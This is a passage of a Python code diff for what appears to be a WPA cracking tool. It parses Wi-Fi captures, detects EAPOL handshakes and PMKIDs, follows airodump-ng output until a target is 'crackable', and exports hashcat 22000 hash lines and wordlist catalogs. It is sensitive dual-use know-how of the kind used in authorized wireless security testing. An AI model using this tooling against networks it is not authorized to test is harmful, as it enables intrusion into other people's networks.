+                return float(2 ** (resol & 0x7F)) if resol & 0x80 else float(10 ** resol)
+            offset += 4 + ((length + 3) & ~3)
+        return 1e6
+
+class CaptureAnalyzer:
+    """
+    Walks the 802.11 frames of a capture and records, per BSSID, the network
+    name, beacon count, EAPOL 4-way handshake messages and PMKIDs.
+    Feed it frames with feed() (or use analyze() for a whole file) and ask for
+    report() to get a plain dictionary describing what the capture contains.
+    """
+    LLC_EAPOL = b'\xaa\xaa\x03\x00\x00\x00\x88\x8e'
+    PMKID_KDE = b'\xdd\x14\x00\x0f\xac\x04'
+    MAX_EAPOL_PER_STATION = 8 # Enough to pair messages without growing without bound
+
+    def __init__(self):
+        self.frames = 0
+        self.networks = {} # raw bssid -> dict with essid, counters, stations
+        self.eapol = {} # (raw bssid, raw station) -> {message number: [records]}
+        self.handshakes = set() # raw bssids with a usable M1/M3 + M2 pair
+        self.first_timestamp = None
+        self.last_timestamp = None
+        self.path = None
+        self.format = None
+        self.linktype = None
+
+    @staticmethod
+    def mac(raw):
+        return raw.hex(':').upper()
+
+    @classmethod
+    def analyze(cls, path, digest=None):
+        """
+        Analyses a whole capture file and returns the analyzer. An optional
+        hashlib object is fed the file's contents in the same pass.
+        """
+        analyzer = cls()
+        capture = CaptureFile(path)
+        for _, linktype, ts, frame in capture.read_frames(digest):
+            analyzer.feed(linktype, frame, ts)
+        analyzer.path = path
+        analyzer.format = capture.format
+        analyzer.linktype = capture.linktype
+        return analyzer
+
+    @staticmethod
+    def strip_link_header(linktype, frame):
+        """Returns the bare 802.11 frame for the supported link types, or None."""
+        if linktype == 127: # Radiotap
+            if len(frame) < 8:
+                return None
+            length = frame[2] | (frame[3] << 8)
+            present = int.from_bytes(frame[4:8], 'little')
+            # The Flags field says whether a 4 byte FCS trails the frame
+            offset = 8
+            extended = present
+            while extended & 0x80000000 and offset + 4 <= length:
+                extended = int.from_bytes(frame[offset:offset + 4], 'little')
+                offset += 4
+            fcs = False
+            if present & 0x2:
+                if present & 0x1:
+                    offset = ((offset + 7) & ~7) + 8 # TSFT, 8 byte aligned
+                if offset < length:
+                    fcs = bool(frame[offset] & 0x10)
+            frame = frame[length:]
+            return frame[:-4] if fcs else frame
+        if linktype == 105: # Raw 802.11
+            return frame
+        if linktype == 192: # PPI
+            if len(frame) < 8:
+                return None
+            return frame[frame[2] | (frame[3] << 8):]
+        if linktype == 119: # Prism
+            return frame[144:]
+        if linktype == 163: # AVS
+            if len(frame) < 8:
+                return None
+            return frame[int.from_bytes(frame[4:8], 'big'):]
+        return None
+
+    def _network(self, bssid):
+        network = self.networks.get(bssid)
+        if network is None:
+            network = self.networks[bssid] = {
+                "essid": None, "beacons": 0, "frames": 0,
+                "eapol_messages": set(), "pmkids": set(), "stations": set()
+            }
+        return network
+
+    def feed(self, linktype, frame, timestamp=0.0):
+        """Processes one captured frame."""
+        self.frames += 1
+        if timestamp:
+            if self.first_timestamp is None:
+                self.first_timestamp = timestamp
+            self.last_timestamp = timestamp
+        frame = self.strip_link_header(linktype, frame)
+        if frame is None or len(frame) < 24:
+            return None
+        fc0, fc1 = frame[0], frame[1]
+        frame_type = (fc0 >> 2) & 0x3
+        subtype = fc0 >> 4
+
+        if frame_type == 0:
+            # Beacons, probe responses and (re)association requests carry the ESSID
+            if subtype in (8, 5):
+                body = 36
+            elif subtype == 0:
+                body = 28
+            elif subtype == 2:
+                body = 34
+            else:
+                return None
+            network = self._network(frame[16:22])
+            network["frames"] += 1
+            if subtype == 8:
+                network["beacons"] += 1
+            if network["essid"] is None and len(frame) >= body + 2 and frame[body] == 0:
+                ssid = bytes(frame[body + 2:body + 2 + frame[body + 1]])
+                if ssid.strip(b'\0'):
+                    network["essid"] = ssid
+            return "management"
+
+        if frame_type != 2 or fc1 & 0x40: # Only unprotected data frames can carry EAPOL
+            return None
+        to_ds, from_ds = fc1 & 0x1, fc1 & 0x2
+        header = 24
+        if to_ds and from_ds:
+            header += 6
+        if subtype & 0x8: # QoS data
+            header += 2
+            if fc1 & 0x80:
+                header += 4
+        if frame[header:header + 8] != self.LLC_EAPOL:
+            return None
+        bssid, station = self.data_addresses(frame)
+        return self._feed_eapol(bssid, station, bytes(frame[header + 8:]))
+
+    @staticmethod
+    def data_addresses(frame):
+        """(bssid, station) of a data frame, from its To DS / From DS bits."""
+        to_ds, from_ds = frame[1] & 0x1, frame[1] & 0x2
+        if to_ds and not from_ds:
+            return bytes(frame[4:10]), bytes(frame[10:16])
+        if from_ds and not to_ds:
+            return bytes(frame[10:16]), bytes(frame[4:10])
+        return bytes(frame[16:22]), bytes(frame[10:16])
+
+    def _feed_eapol(self, bssid, station, eapol):
+        if len(eapol) < 99 or eapol[1] != 3: # 802.1X EAPOL-Key only
+            return None
+        eapol = eapol[:4 + int.from_bytes(eapol[2:4], 'big')]
+        key_info = int.from_bytes(eapol[5:7], 'big')
+        if not key_info & 0x0008: # Pairwise keys only
+            return None
+        ack, mic, install, secure = key_info & 0x0080, key_info & 0x0100, key_info & 0x0040, key_info & 0x0200
+        nonce = eapol[17:49]
+        if ack and not mic:
+            message = 1
+        elif ack and mic and install:
+            message = 3
+        elif mic and not ack and not install:
+            message = 4 if secure or nonce == bytes(32) else 2
+        else:
+            return None
+
+        network = self._network(bssid)
+        network["frames"] += 1
+        network["eapol_messages"].add(message)
+        network["stations"].add(station)
+        record = {
+            "message": message,
+            "key_version": key_info & 0x7,
+            "replay_counter": int.from_bytes(eapol[9:17], 'big'),
+            "nonce": nonce,
+            "mic": eapol[81:97],
+            "eapol": eapol,
+        }
+        if message == 1:
+            key_data = eapol[99:99 + int.from_bytes(eapol[97:99], 'big')]
+            index = key_data.find(self.PMKID_KDE)
+            if index != -1 and len(key_data) >= index + 22:
+                pmkid = key_data[index + 6:index + 22]
+                if pmkid != bytes(16):
+                    network["pmkids"].add(pmkid.hex())
+                    record["pmkid"] = pmkid
+        messages = self.eapol.setdefault((bssid, station), {})
+        records = messages.setdefault(message, [])
+        if len(records) >= self.MAX_EAPOL_PER_STATION:
+            records.pop(0)
+        records.append(record)
+        if 2 in messages and (1 in messages or 3 in messages):
+            self.handshakes.add(bssid)
+        return f"eapol{message}"
+
+    def report(self):
+        """Returns a JSON-friendly summary of the capture, keyed by BSSID."""
+        networks = {}
+        for bssid, network in self.networks.items():
+            essid = network["essid"]
+            handshake = bssid in self.handshakes
+            networks[self.mac(bssid)] = {
+                "essid": essid.decode('utf-8', 'replace') if essid is not None else None,
+                "beacons": network["beacons"],
+                "frames": network["frames"],
+                "eapol_messages": sorted(network["eapol_messages"]),
+                "stations": sorted(self.mac(station) for station in network["stations"]),
+                "pmkids": sorted(network["pmkids"]),
+                "handshake": handshake,
+                "crackable": handshake or bool(network["pmkids"]),
+            }
+        return {
+            "path": self.path,
+            "format": self.format,
+            "linktype": self.linktype,
+            "frames": self.frames,
+            "duration": (self.last_timestamp - self.first_timestamp) if self.first_timestamp else 0.0,
+            "networks": networks,
+        }
+
+    @staticmethod
+    def material(network):
+        """'handshake', 'PMKID' or 'handshake + PMKID' for a network of report() or of the capture catalog."""
+        return " + ".join(kind for kind, present in (("handshake", network["handshake"]), ("PMKID", network["pmkids"])) if present)
+
+    def crackable_networks(self):
+        """Returns {bssid: network} for networks with a usable handshake or PMKID."""
+        return {b: n for b, n in self.report()["networks"].items() if n["crackable"]}
+
+    def hc22000_lines(self):
+        """
+        Yields hashcat mode 22000 lines for every PMKID and every M1+M2 or
+        M2+M3 pair found. Networks whose ESSID was never seen are skipped,
+        hashcat needs it as the salt.
+        """
+        for bssid, network in self.networks.items():
+            essid = network["essid"]
+            if essid is None:
+                continue
+            essid_hex = essid.hex()
+            ap = bssid.hex()
+            for (ap_raw, station), messages in self.eapol.items():
+                if ap_raw != bssid:
+                    continue
+                sta = station.hex()
+                for record in messages.get(1, []):
+                    if "pmkid" in record:
+                        yield f"WPA*01*{record['pmkid'].hex()}*{ap}*{sta}*{essid_hex}***01"
+                for m2 in messages.get(2, []):
+                    pair = self._anonce_for(m2, messages)
+                    if pair is None:
+                        continue
+                    anonce, message_pair = pair
+                    eapol = m2["eapol"][:81] + bytes(16) + m2["eapol"][97:] # MIC zeroed
+                    yield (f"WPA*02*{m2['mic'].hex()}*{ap}*{sta}*{essid_hex}*"
+                           f"{anonce.hex()}*{eapol.hex()}*{message_pair:02x}")
+
+    def has_matching_pair(self, bssid):
+        """
+        True when a station of 'bssid' has an M2 whose replay counter matches
+        an M1 or M3, i.e. a pair hc22000_lines() does not flag as unverified.
+        """
+        for (ap, _), messages in self.eapol.items():
+            if ap != bssid:
+                continue
+            for m2 in messages.get(2, []):
+                pair = self._anonce_for(m2, messages)
+                if pair and not pair[1] & 0x80:
+                    return True
+        return False
+
+    @staticmethod
+    def _anonce_for(m2, messages):
+        """
+        Picks the ANonce to pair with an M2: an M1 with the same replay counter,
+        else an M3 with the next one. Falls back to any M1/M3 and flags the pair
+        as unverified (bit 7) so hashcat knows the replay counters did not match.
+        """
+        replay = m2["replay_counter"]
+        for m1 in messages.get(1, []):
+            if m1["replay_counter"] == replay:
+                return m1["nonce"], 0x00
+        for m3 in messages.get(3, []):
+            if m3["replay_counter"] == replay + 1:
+                return m3["nonce"], 0x02
+        if messages.get(1):
+            return messages[1][-1]["nonce"], 0x80
+        if messages.get(3):
+            return messages[3][-1]["nonce"], 0x82
+        return None
+
+class CaptureCompactor:
+    """
+    Shrinks a capture to what cracking needs: a few beacons/probe responses,
+    the first management frame that names the network (hidden networks only
+    do so in probe responses and association requests) and the EAPOL frames
+    of every network that has a usable handshake or PMKID. The source is read
+    once; only the first frames of each kind per BSSID and the last EAPOL
+    frames of each message per station are held, so memory follows the
+    number of networks and clients, not the capture size.
+    The output is a classic pcap with bare 802.11 frames (link type 105),
+    which aircrack-ng, hashcat's tools and this program all read. It is
+    analysed again before it replaces anything, and must give the same
+    hashcat lines as the source.
+    """
+    MAX_MANAGEMENT = 2 # Beacons/probe responses kept per BSSID
+    MAX_EAPOL = CaptureAnalyzer.MAX_EAPOL_PER_STATION # Frames kept per message and AP/station pair, as the analyzer does
+    LINKTYPE_IEEE802_11 = 105
+
+    def compact(self, source, dest=None):
+        """
+        Writes the compact capture (default: <name>-compact.cap next to the
+        source) and returns {path, frames_in, frames_out, size_in, size_out,
+        networks}. No file is written when nothing in the source is crackable.
+        Raises ValueError, leaving 'dest' untouched, if the compact capture
+        would not give the same hashcat lines as the source.
+        """
+        analyzer = CaptureAnalyzer()
+        capture = CaptureFile(source)
+        management = {} # raw bssid -> [(timestamp, frame)]
+        named = {} # raw bssid -> (timestamp, frame) of the first frame carrying its ESSID
+        eapol = {} # (raw bssid, raw station) -> {message: deque of (timestamp, frame)}
+        for _, linktype, ts, raw in capture.read_frames():
+            frame = analyzer.strip_link_header(linktype, raw)
+            if frame is None:
+                analyzer.feed(linktype, raw, ts) # Still counted as a frame
+                continue
+            kind = analyzer.feed(self.LINKTYPE_IEEE802_11, frame, ts)
+            if kind == "management":
+                bssid = bytes(frame[16:22])
+                kept = management.setdefault(bssid, [])
+                if frame[0] >> 4 in (8, 5) and len(kept) < self.MAX_MANAGEMENT: # Beacon, probe response
+                    kept.append((ts, bytes(frame)))
+                if bssid not in named and analyzer.networks[bssid]["essid"] is not None:
+                    named[bssid] = (ts, bytes(frame)) # The analyzer takes the ESSID from the first frame that has one
+            elif kind and kind.startswith("eapol"):
+                messages = eapol.setdefault(analyzer.data_addresses(frame), {})
+                if kind not in messages:
+                    messages[kind] = deque(maxlen=self.MAX_EAPOL)
+                messages[kind].append((ts, bytes(frame)))
+
+        crackable = {
+            bssid for bssid, network in analyzer.networks.items()
+            if network["essid"] and (bssid in analyzer.handshakes or network["pmkids"])
+        }
+        records = [record for bssid in crackable for record in management.get(bssid, ())]
+        records += [named[bssid] for bssid in crackable if named[bssid] not in management[bssid]]
+        records += [record for (bssid, _), messages in eapol.items() if bssid in crackable
+                    for frames in messages.values() for record in frames]
+        records.sort(key=lambda record: record[0])
+
+        result = {
+            "path": None, "frames_in": analyzer.frames, "frames_out": len(records),
+            "size_in": os.path.getsize(source), "size_out": 0,
+            "networks": sorted(analyzer.mac(bssid) for bssid in crackable),
+        }
+        if not crackable:
+            return result
+        if dest is None:
+            dest = os.path.splitext(source)[0] + '-compact.cap'
+        fd, tmp_path = tempfile.mkstemp(dir=os.path.dirname(os.path.abspath(dest)), suffix='.tmp')
+        try:
+            with os.fdopen(fd, 'wb') as out:
+                out.write(struct.pack('<IHHiIII', 0xa1b2c3d4, 2, 4, 0, 0, 65535, self.LINKTYPE_IEEE802_11))
+                for ts, frame in records:
+                    seconds = int(ts)
+                    out.write(struct.pack('<IIII', seconds, int((ts - seconds) * 1e6), len(frame), len(frame)))
+                    out.write(frame)
+            if sorted(CaptureAnalyzer.analyze(tmp_path).hc22000_lines()) != sorted(analyzer.hc22000_lines()):
+                raise ValueError("the compact capture does not give the same hashcat lines, source kept")
+            os.chmod(tmp_path, 0o644)
+            os.replace(tmp_path, dest)
+        except BaseException:
+            if os.path.exists(tmp_path):
+                os.remove(tmp_path)
+            raise
+        result.update(path=dest, size_out=os.path.getsize(dest))
+        return result
+
+class CaptureCatalog:
+    """
+    Persistent catalog of the captures in one or more directories. For every
+    file it records size, mtime, frame count and, per BSSID, the ESSID and
+    whether a handshake or PMKID is present. Entries are reused while path,
+    size and mtime match; new or changed files are analysed in parallel in
+    worker processes. While listing a directory it also remembers the highest
+    capture-N number, so the next free capture name costs a lookup.
+    """
+    EXTENSIONS = ('.cap', '.pcap', '.pcapng')
+    CAPTURE_NAME = re.compile(r'^capture-(\d+)-')
+
+    def __init__(self, roots=('.',), path=None, workers=None):
+        self.roots = list(roots)
+        self.path = path or os.path.join(CACHE_DIR, 'captures.json')
+        self.workers = workers or os.cpu_count() or 1
+        try:
+            with open(self.path) as f:
+                self._data = json.load(f)
+        except (OSError, ValueError):
+            self._data = {}
+        self._data.setdefault("dirs", {})
+        self._data.setdefault("files", {})
+
+    def save(self):
+        atomic_write_json(self.path, self._data)
+
+    @staticmethod
+    def summarize(path):
+        """Analyses one capture; runs in a worker process."""
+        try:
+            report = CaptureAnalyzer.analyze(path).report()
+        except (OSError, ValueError) as e:
+            return {"error": str(e), "frames": 0, "networks": {}, "crackable": False}
+        networks = {
+            bssid: {
+                "essid": network["essid"], "handshake": network["handshake"],
+                "pmkids": len(network["pmkids"]), "frames": network["frames"],
+                "crackable": network["crackable"] and network["essid"] is not None,
+            }
+            for bssid, network in report["networks"].items()
+            if network["eapol_messages"] or network["pmkids"] or network["essid"]
+        }
+        return {
+            "frames": report["frames"], "format": report["format"], "networks": networks,
+            "crackable": any(network["crackable"] for network in networks.values()),
+        }
+
+    def _list_dir(self, directory):
+        """Capture files of a directory, from the catalog while the directory is unchanged."""
+        try:
+            mtime = os.stat(directory).st_mtime_ns
+        except OSError:
+            return []
+        cached = self._data["dirs"].get(directory)
+        if cached and cached["mtime_ns"] == mtime:
+            return cached["files"]
+        files, highest = [], 0
+        try:
+            with os.scandir(directory) as it:
+                for entry in it:
+                    match = self.CAPTURE_NAME.match(entry.name)
+                    if match:
+                        highest = max(highest, int(match.group(1)))
+                    if entry.name.endswith(self.EXTENSIONS) and entry.is_file():
+                        files.append(entry.name)
+        except OSError:
+            return []
+        self._data["dirs"][directory] = {"mtime_ns": mtime, "files": sorted(files), "highest": highest}
+        return files
+
+    def refresh(self):
+        """
+        Brings the catalog up to date and returns [(path, entry)], newest
+        first. Only files that are new or whose size/mtime changed are read.
+        """
+        current, stale = {}, []
+        for root in self.roots:
+            directory = os.path.abspath(root)
+            for name in self._list_dir(directory):
+                path = os.path.join(directory, name)
+                try:
+                    st = os.stat(path)
+                except OSError:
+                    continue
+                entry = self._data["files"].get(path)
+                if entry and entry["size"] == st.st_size and entry["mtime_ns"] == st.st_mtime_ns:
+                    current[path] = entry
+                else:
+                    current[path] = {"size": st.st_size, "mtime_ns": st.st_mtime_ns}
+                    stale.append(path)
+
+        if len(stale) > 1 and self.workers > 1:
+            from concurrent.futures import ProcessPoolExecutor
+            with ProcessPoolExecutor(max_workers=min(self.workers, len(stale))) as pool:
+                summaries = pool.map(self.summarize, stale)
+                for path, summary in zip(stale, summaries):
+                    current[path].update(summary)
+        else:
+            for path in stale:
+                current[path].update(self.summarize(path))
+
+        roots = tuple(os.path.join(os.path.abspath(root), '') for root in self.roots)
+        for path in list(self._data["files"]):
+            if path not in current and path.startswith(roots):
+                del self._data["files"][path] # Deleted since the last refresh
+        self._data["files"].update(current)
+        if stale or len(current) != len(self._data["files"]):
+            self.save()
+        return sorted(current.items(), key=lambda item: item[1]["mtime_ns"], reverse=True)
+
+    def crackable(self):
+        """[(path, entry)] of the captures with at least one crackable network, newest first."""
+        return [(path, entry) for path, entry in self.refresh() if entry["crackable"]]
+
+    def next_capture_prefix(self, directory='.'):
+        """
+        Next free 'capture-N' prefix for airodump-ng -w in a directory. The
+        highest N comes from the catalog's listing of the directory, which is
+        only redone when the directory changed.
+        """
+        directory = os.path.abspath(directory)
+        self._list_dir(directory)
+        number = self._data["dirs"].get(directory, {}).get("highest", 0) + 1
+        return os.path.join(directory, f"capture-{number}")
+
+class HandshakeWatcher:
+    """
+    Follows a capture file while airodump-ng is still writing it and tells
+    when the target network is crackable: its ESSID is known and a PMKID or
+    an M1/M3 + M2 pair with matching replay counters is on disk; messages
+    from different attempts do not count. Only new records are read on each
+    check, so following a long capture costs as much as reading it once.
+    """
+    def __init__(self, path, bssid):
+        self.path = path
+        self.bssid = bytes.fromhex(bssid.replace(':', ''))
+        self.capture = CaptureFile(path)
+        self.analyzer = CaptureAnalyzer()
+        self.started = time.monotonic()
+        self.captured_at = None
+        self._watcher = FileChangeWatcher(path)
+
+    @property
+    def time_to_capture(self):
+        return None if self.captured_at is None else self.captured_at - self.started
+
+    def check(self):
+        """Reads what was appended since the last check; returns True once the handshake is there."""
+        if self.captured_at is not None:
+            return True
+        try:
+            for _, linktype, ts, frame in self.capture.read_frames():
+                self.analyzer.feed(linktype, frame, ts)
+        except ValueError:
+            return False # Header not fully written yet
+        network = self.analyzer.networks.get(self.bssid)
+        if network and network["essid"] and (network["pmkids"] or self.analyzer.has_matching_pair(self.bssid)):
+            self.captured_at = time.monotonic()
+            return True
+        return False
+
+    def wait(self, timeout):
+        """Waits up to 'timeout' seconds for new data; returns check()."""
+        if not self.check():
+            self._watcher.wait(timeout)
+        return self.check()
+
+    def found(self):
+        """'handshake', 'PMKID' or both, for messages."""
+        network = self.analyzer.networks.get(self.bssid, {})
+        kinds = []
+        if self.analyzer.has_matching_pair(self.bssid):
+            kinds.append("handshake")
+        if network.get("pmkids"):
+            kinds.append("PMKID")
+        return " + ".join(kinds)
+
+    def close(self):
+        self._watcher.close()
+
+class Hc22000Exporter:
+    """
+    Converts captures to hashcat's 22000 format in-process.
+    The capture is parsed once, identical records are dropped, and the result
+    is stored in a cache keyed by the capture's content, so converting the same
+    capture again costs just a stat() when the file has not been touched since
+    the last conversion. The content digest is computed during the parse, so a
+    new file is read only once; a copy of a converted capture under another
+    name still ends up on the cached result.
+    """
+    def __init__(self, cache_dir=None):
+        self.cache_dir = cache_dir or os.path.join(CACHE_DIR, 'hc22000')
+        self._index_path = os.path.join(self.cache_dir, 'index.json')
+        self._index = None # "path|size|mtime_ns" -> content digest
+
+    @staticmethod
+    def capture_digest(path):
+        """BLAKE2b digest of the capture's contents."""
+        digest = hashlib.blake2b(digest_size=20)
+        with open(path, 'rb') as f:
+            for chunk in iter(lambda: f.read(1024 * 1024), b''):
+                digest.update(chunk)
+        return digest.hexdigest()
+
+    def _load_index(self):
+        if self._index is None:
+            try:
+                with open(self._index_path) as f:
+                    self._index = json.load(f)
+            except (OSError, ValueError):
+                self._index = {}
+        return self._index
+
+    def _save_index(self):
+        atomic_write_json(self._index_path, self._index)
+
+    def _cached(self, digest):
+        """The cached export for a content digest, or None."""
+        hash_file = os.path.join(self.cache_dir, f"{digest}.hc22000")
+        try:
+            with open(os.path.join(self.cache_dir, f"{digest}.json")) as f:
+                meta = json.load(f)
+        except (OSError, ValueError):
+            return None
+        if not os.path.exists(hash_file):
+            return None
+        return dict(meta, hash_file=hash_file, cached=True)
+
+    def export(self, cap_file):
+        """
+        Returns a dict with the path of the .hc22000 file ("hash_file"), the
+        number of hash lines ("lines"), the capture report ("report") and
+        whether it came from the cache ("cached").
+        """
+        st = os.stat(cap_file)
+        key = f"{os.path.abspath(cap_file)}|{st.st_size}|{st.st_mtime_ns}"
+        index = self._load_index()
+        digest = index.get(key)
+        if digest:
+            cached = self._cached(digest)
+            if cached:
+                return cached
+
+        hasher = hashlib.blake2b(digest_size=20) # Same digest as capture_digest()
+        analyzer = CaptureAnalyzer.analyze(cap_file, hasher)
+        digest = hasher.hexdigest()
+        cached = self._cached(digest)
+        if cached:
+            # Same contents as a capture converted before under another name
+            index[key] = digest
+            self._save_index()
+            return cached
+
+        hash_file = os.path.join(self.cache_dir, f"{digest}.hc22000")
+        meta_file = os.path.join(self.cache_dir, f"{digest}.json")
+        os.makedirs(self.cache_dir, exist_ok=True)
+        # Write to a private temp file first so concurrent sessions never see half a file
+        fd, tmp_path = tempfile.mkstemp(dir=self.cache_dir, suffix='.tmp')
+        lines = 0
+        seen = set()
+        try:
+            with os.fdopen(fd, 'w') as out:
+                for line in analyzer.hc22000_lines():
+                    if line in seen:
+                        continue
+                    seen.add(line)
+                    out.write(line + '\n')
+                    lines += 1
+            os.replace(tmp_path, hash_file)
+        except BaseException:
+            if os.path.exists(tmp_path):
+                os.remove(tmp_path)
+            raise
+
+        meta = {"lines": lines, "report": analyzer.report()}
+        atomic_write_json(meta_file, meta)
+        index[key] = digest
+        self._save_index()
+        return dict(meta, hash_file=hash_file, cached=False)
+
+class Hc22000Batch:
+    """
+    One hc22000 file for many captures, so a single hashcat pass covers
+    them all. Lines are deduplicated across captures (the same handshake is
+    often in several files) and grouped by ESSID: the ESSID is the PBKDF2
+    salt, so hashcat derives one PMK per candidate and ESSID however many
+    handshakes share it, which is where a batch saves work over cracking
+    the captures one by one.
+    """
+    def __init__(self, exporter=None, cache_dir=None):
+        self.exporter = exporter or Hc22000Exporter()
+        self.cache_dir = cache_dir or self.exporter.cache_dir
+
+    @staticmethod
+    def _fields(line):
+        """(bssid, essid hex) of a hash line."""
+        fields = line.split('*')
+        return ':'.join(fields[3][i:i + 2] for i in range(0, 12, 2)).upper(), fields[5]
+
+    def build(self, captures, skip=None):
+        """
+        Exports every capture (cached) and writes the combined hash file.
+        'skip(fingerprint)' leaves out networks that need no cracking, e.g.
+        those with a known key. Returns {hash_file, lines, duplicates,
+        essids, networks: {bssid: {essid}}, captures: {path: {export,
+        fingerprints, bssids, essids}}}; 'hash_file' is None when nothing is
+        left to crack.
+        """
+        groups = {} # essid hex -> set of lines
+        total = 0
+        networks = {}
+        sources = {}
+        for path in captures:
+            export = self.exporter.export(path)
+            fingerprints = ResultStore.handshake_fingerprints(export)
+            bssids = set()
+            with open(export["hash_file"]) as f:
+                for line in f:
+                    line = line.strip()
+                    if not line.startswith('WPA*'):
+                        continue
+                    bssid, essid = self._fields(line)
+                    if skip and skip(fingerprints.get(bssid)):
+                        continue
+                    bssids.add(bssid)
+                    groups.setdefault(essid, set()).add(line)
+                    total += 1
+            for bssid in bssids:
+                networks[bssid] = {"essid": export["report"]["networks"].get(bssid, {}).get("essid")}
+            sources[path] = {
+                "export": export, "fingerprints": fingerprints, "bssids": sorted(bssids),
+                "essids": len({networks[b]["essid"] for b in bssids}),
+            }
+        lines = [line for essid in sorted(groups) for line in sorted(groups[essid])]
+        result = {
+            "hash_file": None, "lines": len(lines), "duplicates": total - len(lines),
+            "essids": len(groups), "networks": networks, "captures": sources,
+        }
+        if lines:
+            content = ''.join(line + '\n' for line in lines).encode()
+            # Named by content, so the same batch reuses hashcat's potfile and restore data
+            result["hash_file"] = os.path.join(
+                self.cache_dir, f"batch-{hashlib.blake2b(content, digest_size=20).hexdigest()}.hc22000"
+            )
+            if not os.path.exists(result["hash_file"]):
+                os.makedirs(self.cache_dir, exist_ok=True)
+                fd, tmp_path = tempfile.mkstemp(dir=self.cache_dir, suffix='.tmp')
+                with os.fdopen(fd, 'wb') as out:
+                    out.write(content)
+                os.replace(tmp_path, result["hash_file"])
+        return result
+
+def format_size(size):
+    """Human readable byte count, e.g. 133.4 MB."""
+    for unit in ('B', 'KB', 'MB', 'GB', 'TB'):
+        if size < 1024 or unit == 'TB':
+            return f"{size:.0f} {unit}" if unit == 'B' else f"{size:.1f} {unit}"
+        size /= 1024
+
+class WordlistCatalog:
+    """
+    Persistent catalog of the wordlists under one or more directories.
+    For every file it records size, mtime, line count and a content
+    fingerprint. A refresh only lists directories whose mtime changed and
+    only re-examines files whose size or mtime changed; line counts and
+    fingerprints for new files are worked out on a background thread.
+    """
+    EXTENSIONS = ('.txt', '.lst', '.gz', '.bz2', '.xz', '.zst')
+
+    def __init__(self, roots=('/usr/share/wordlists/',), path=None):
+        self.roots = list(roots)
+        self.path = path or os.path.join(CACHE_DIR, 'wordlists.json')
+        self._lock = threading.Lock()
+        self._worker = None
+        try:
+            with open(self.path) as f:
+                self._data = json.load(f)
+        except (OSError, ValueError):
+            self._data = {}
+        self._data.setdefault("dirs", {})
+        self._data.setdefault("files", {})
+
+    def save(self):
+        with self._lock:
+            atomic_write_json(self.path, self._data)
+
+    def _list_dir(self, directory, mtime):
+        """Returns (files, subdirs) for a directory, from the catalog if it has not changed."""
+        cached = self._data["dirs"].get(directory)
+        if cached and cached["mtime_ns"] == mtime:
+            return cached["files"], cached["subdirs"]
+        files, subdirs = [], []
+        try:
+            with os.scandir(directory) as it:
+                for entry in it:
+                    if entry.is_dir(follow_symlinks=True):
+                        subdirs.append(entry.name)
+                    elif entry.name.endswith(self.EXTENSIONS):
+                        files.append(entry.name)
+        except OSError:
+            return [], []
+        self._data["dirs"][directory] = {"mtime_ns": mtime, "files": files, "subdirs": subdirs}
+        return files, subdirs
+
+    def refresh(self):
+        """
+        Brings the catalog up to date with the file system and returns the
+        entries as a list of (display_name, path, entry) tuples.
+        """
+        found = {}
+        with self._lock:
+            visited = set() # (st_dev, st_ino) of every directory walked, so symlink loops end
+            for root in self.roots:
+                stack = [os.path.normpath(root)]
+                while stack:
+                    directory = stack.pop()
+                    try:
+                        st = os.stat(directory)
+                    except OSError:
+                        continue
+                    if (st.st_dev, st.st_ino) in visited:
+                        continue
+                    visited.add((st.st_dev, st.st_ino))
+                    files, subdirs = self._list_dir(directory, st.st_mtime_ns)
+                    stack.extend(os.path.join(directory, d) for d in subdirs)
+                    for name in files:
+                        full_path = os.path.join(directory, name)
+                        try:
+                            st = os.stat(full_path)
+                        except OSError:
+                            continue
+                        entry = self._data["files"].get(full_path)
+                        if not entry or entry["size"] != st.st_size or entry["mtime_ns"] != st.st_mtime_ns:
+                            entry = {"size": st.st_size, "mtime_ns": st.st_mtime_ns, "lines": None, "fingerprint": None}
+                            self._data["files"][full_path] = entry
+                        found[full_path] = os.path.relpath(full_path, root)
+            # Forget files that disappeared
+            for stale in set(self._data["files"]) - set(found):
+                del self._data["files"][stale]
+        self.save()
+        self.start_background_indexing()
+        return sorted(
+            ((name, path, self._data["files"][path]) for path, name in found.items()),
+            key=lambda item: item[0]
+        )
+
+    def entry(self, path):
+        return self._data["files"].get(path)
+
+    def current_fingerprint(self, path):
+        """Fingerprint of a wordlist, from the catalog when its entry is up to date."""
+        entry = self._data["files"].get(path)
+        if entry and entry.get("fingerprint"):
+            st = os.stat(path)
+            if entry["size"] == st.st_size and entry["mtime_ns"] == st.st_mtime_ns:
+                return entry["fingerprint"]
+        return self.fingerprint(path)
+
+    def register_derived(self, path, kind, info):
+        """
+        Records a file derived from a wordlist (e.g. its normalized version).
+        The record is dropped automatically when the source changes.
+        """
+        with self._lock:
+            entry = self._data["files"].get(path)
+            if entry is None:
+                return
+            entry.setdefault("derived", {})[kind] = info
+        self.save()
+
+    def start_background_indexing(self):
+        """Counts lines and fingerprints new files on a daemon thread."""
+        if self._worker and self._worker.is_alive():
+            return
+        pending = [p for p, e in self._data["files"].items() if e["lines"] is None or e["fingerprint"] is None]
+        if not pending:
+            return
+        self._worker = threading.Thread(target=self._index_files, args=(pending,), daemon=True)
+        self._worker.start()
+
+    def _index_files(self, paths):
+        # Smallest first, so most of the menu fills in quickly
+        for path in sorted(paths, key=lambda p: self._data["files"].get(p, {}).get("size", 0)):
+            entry = self._data["files"].get(path)
+            if entry is None:
+                continue
+            try:
+                fingerprint = self.fingerprint(path, entry["size"], entry["mtime_ns"])
+                lines = self.count_lines(path)
+            except OSError:
+                continue
+            with self._lock:
+                if self._data["files"].get(path) is entry:
+                    entry["fingerprint"] = fingerprint
+                    entry["lines"] = lines
+            self.save()
+
+    @staticmethod
+    def fingerprint(path, size=None, mtime_ns=None):
+        """
+        Cheap content fingerprint: BLAKE2b over the size, the mtime and the first
+        and last 1 MB of the file, so it stays fast on multi-GB lists. The
+        mtime covers edits in the middle of the file that the samples miss.
+        """
+        if size is None or mtime_ns is None:
+            st = os.stat(path)
+            size, mtime_ns = st.st_size, st.st_mtime_ns
+        digest = hashlib.blake2b(f"{size}|{mtime_ns}".encode(), digest_size=16)
+        with open(path, 'rb') as f:
+            digest.update(f.read(1024 * 1024))
+            if size > 2 * 1024 * 1024:
+                f.seek(size - 1024 * 1024)
+                digest.update(f.read())
+        return digest.hexdigest()
+
+    @staticmethod
+    def count_lines(path, chunk_size=4 * 1024 * 1024):
+        """Counts lines by counting newlines in large chunks (decompressing on the fly)."""
+        lines = 0
+        last = b'\n'
+        stream = WordlistStream(path)
+        f = stream.open_source()
+        try:
+            while True:
+                chunk = f.read(chunk_size)
+                if not chunk:
